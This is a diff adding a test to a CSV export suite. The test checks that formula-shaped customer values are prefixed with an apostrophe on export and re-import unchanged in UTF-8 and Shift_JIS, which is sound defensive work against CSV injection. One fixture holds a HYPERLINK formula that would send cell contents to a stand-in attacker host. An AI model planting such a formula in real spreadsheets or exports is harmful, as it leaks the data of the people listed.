@@ -403,6 +403,40 @@ describe('the export', () => {
     expect(await web.app.db('accounts').select('id', 'jsa_id', 'email', 'contact_name', 'company', 'department', 'address', 'phone', 'version').orderBy('jsa_id')).toEqual(before);
   });
 
+  it('writes no cell a spreadsheet would run as a formula, and the guarded file re-imports unchanged', async () => {
+    // Values a customer can type (company, name, address) shaped as formulas, a phone with +81,
+    // a value that begins with an apostrophe before = (written guarded: ''=), and one with an
+    // apostrophe only.
+    const hostile = [
+      `12400000001,"=cmd@example.jp","@SUM(A1:A9)","=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")",-,"+81 3 1234 5678",+81 3 1234 5678`,
+      `12400000002,apos@example.jp,"''=1+1",'80s 商会,"	総務部",東京都,-03-1234`,
+    ];
+    await upload(admin, 'formulas.csv', Buffer.from(csv([CSV_HEADER, ...hostile])));
+    expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', rejected: 0, inserted: 2 });
+    const stored = await web.app.db('accounts').whereIn('jsa_id', ['12400000001', '12400000002']).orderBy('jsa_id').select('email', 'contact_name', 'company', 'department', 'address', 'phone');
+    expect(stored).toEqual([
+      { email: '=cmd@example.jp', contact_name: '@SUM(A1:A9)', company: '=HYPERLINK("https://attacker.example/"&D2&G2,"詳細")', department: '-', address: '+81 3 1234 5678', phone: '+81 3 1234 5678' },
+      // The tab in front of 総務部 is trimmed by the forms' rules, as typed on a screen.
+      { email: 'apos@example.jp', contact_name: "'=1+1", company: "'80s 商会", department: '総務部', address: '東京都', phone: '-03-1234' },
+    ]);
+
+    for (const encoding of ['utf-8', 'shift_jis'] as const) {
+      const begun = await ok<{ ticket: string; fileName: string; accounts: number }>(supervisor, 'accounts.export.begin', { encoding, personalDataConfirmed: true });
+      const got = await download(supervisor, begun.ticket);
+      const text = encoding === 'utf-8' ? got.bytes.toString('utf8') : iconv.decode(got.bytes, 'cp932');
+      const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
+      expect(lines).toContain(`"12400000001","'=cmd@example.jp","'@SUM(A1:A9)","'=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")","'-","'+81 3 1234 5678","'+81 3 1234 5678"`);
+      expect(lines).toContain(`"12400000002","apos@example.jp","''=1+1","'80s 商会","総務部","東京都","'-03-1234"`);
+      // No cell of the whole file begins with what a spreadsheet runs.
+      for (const line of lines.slice(1)) for (const cellText of line.slice(1, -1).split('","')) expect(cellText).not.toMatch(/^[=+\-@\t\r]/);
+
+      const before = await web.app.db('accounts').select('jsa_id', 'email', 'contact_name', 'company', 'department', 'address', 'phone', 'version').orderBy('jsa_id');
+      await upload(admin, begun.fileName, got.bytes);
+      expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', inserted: 0, updated: 0, rejected: 0, unchanged: begun.accounts });
+      expect(await web.app.db('accounts').select('jsa_id', 'email', 'contact_name', 'company', 'department', 'address', 'phone', 'version').orderBy('jsa_id')).toEqual(before);
+    }
+  });
+
   it('round-trips 髙 and 﨑 through Shift_JIS, and names the characters Shift_JIS cannot write instead of writing ?', async () => {
     const special = [
       '12100000001,taka@example.jp,髙橋 﨑子,株式会社髙島屋,品質保証部,神奈川県川﨑市,044-123-4567',
